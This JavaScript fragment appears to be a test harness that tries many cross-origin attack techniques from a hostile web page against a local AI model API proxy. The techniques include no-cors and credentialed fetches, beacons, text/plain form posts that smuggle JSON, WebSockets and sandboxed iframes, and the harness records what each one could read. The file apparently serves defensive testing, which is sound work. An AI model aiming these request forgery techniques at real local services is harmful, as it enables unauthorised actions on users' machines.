// What a page of another origin tries at the proxy: each attack comes to what the page could read.
// TARGET, MODEL, KNOWN (a cached text) and NAME (the beginning of others) are put before this, and all
// of it is the body of an async function.
const body = (text) => JSON.stringify({model: MODEL, input: text, index: {collection: 'evil'}});
const texts = (() => { let n = 0; return () => (n++ % 2 ? KNOWN : NAME + n); })();
const type = {'Content-Type': 'text/plain'};
const readable = async (reply) => reply.type === 'opaque' ? 'opaque' : 'read: ' + await reply.text();
const post = (more) => fetch(TARGET + '/v1/embeddings', {method: 'POST', body: body(texts()), ...more})
    .then(readable);
const event = (it, ...names) => new Promise((resolve) =>
    names.forEach((name) => { it['on' + name] = () => resolve(name); }));
const element = (name, more, ...names) => {
    const it = Object.assign(document.createElement(name), more);
    const done = event(it, ...names);
    document.body.append(it);
    return done;
};
const submit = (enctype, method, action, target) => {
    const form = Object.assign(document.createElement('form'), {enctype, method, action, target});
    // The equals sign between name and value falls into a string.
    const [name, value] = [body(texts()).slice(0, -1) + ', "user": "', '"}'];
    form.append(Object.assign(document.createElement('input'), {name, value}));
    document.body.append(form);
    form.submit();
};
const framed = (enctype, method, action) => {
    const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()});
    document.body.append(frame);
    const done = event(frame, 'load', 'error');
    submit(enctype, method, action, frame.name);
    return done.then(() => {
        try { return 'read: ' + frame.contentDocument.body.innerText; } catch { return 'opaque'; }
    });
};
const xhr = () => {
    const it = new XMLHttpRequest();
    it.open('POST', TARGET + '/v1/embeddings');
    const done = event(it, 'load', 'error');
    it.send(body(texts()));
    return done.then((how) => how === 'load' ? 'read: ' + it.responseText : how);
};
const nested = (more) => new Promise((resolve) => {
    addEventListener('message', ({data}) => resolve(data), {once: true});
    const script = `fetch('${TARGET}/v1/embeddings', {method: 'POST', body: '${body(texts())}'})
        .then((reply) => reply.text()).then((text) => 'read: ' + text, String)
        .then((told) => parent.postMessage(told, '*'))`;
    const page = '<script>' + script + '</' + 'script>';
    element('iframe', more(page), 'load');
});
const attacks = {
    fetch: () => post({headers: type}),
    fetch_no_cors: () => post({mode: 'no-cors'}),
    fetch_with_credentials: () => post({mode: 'no-cors', credentials: 'include'}),
    fetch_kept_alive: () => post({mode: 'no-cors', keepalive: true}),
    fetch_json: () => post({headers: {'Content-Type': 'application/json', Authorization: 'x'}}),
    fetch_blob: () => post({body: new Blob([body(texts())]), mode: 'no-cors'}),
    xhr,
    beacon: async () => String(navigator.sendBeacon(TARGET + '/v1/embeddings', body(texts()))),
    form: () => framed('text/plain', 'post', TARGET + '/v1/embeddings'),
    form_chat: () => framed('text/plain', 'post', TARGET + '/v1/chat/completions'),
    form_encoded: () => framed('application/x-www-form-urlencoded', 'post', TARGET + '/v1/files'),
    form_multipart: () => framed('multipart/form-data', 'post', TARGET + '/v1/files'),
    no_cors_chat: () => fetch(TARGET + '/v1/responses', {method: 'POST', mode: 'no-cors', body: '{}'})
        .then(readable),
    no_cors_get: () => fetch(TARGET + '/v1/files/content', {mode: 'no-cors'}).then(readable),
    image: () => element('img', {src: TARGET + '/metrics'}, 'load', 'error'),
    script: () => element('script', {src: TARGET + '/status'}, 'load', 'error'),
    style: () => element('link', {rel: 'stylesheet', href: TARGET + '/v1/models'}, 'load', 'error'),
    prefetch: () => element('link', {rel: 'prefetch', href: TARGET + '/v1/assistants'}, 'load', 'error'),
    frame: () => element('iframe', {src: TARGET + '/v1/threads'}, 'load').then(() => 'opaque'),
    websocket: () => event(new WebSocket(TARGET.replace('http', 'ws') + '/v1/realtime'), 'open', 'error'),
    event_source: () => event(new EventSource(TARGET + '/v1/responses/stream'), 'open', 'error'),
    sandboxed: () => nested((page) => ({sandbox: 'allow-scripts', srcdoc: page})),
    data_url: () => nested((page) => ({src: 'data:text/html,' + encodeURIComponent(page)})),
};
const told = {};
for (const [name, attack] of Object.entries(attacks)) {
    told[name] = await Promise.resolve().then(attack).catch((error) => String(error));
}
return told;
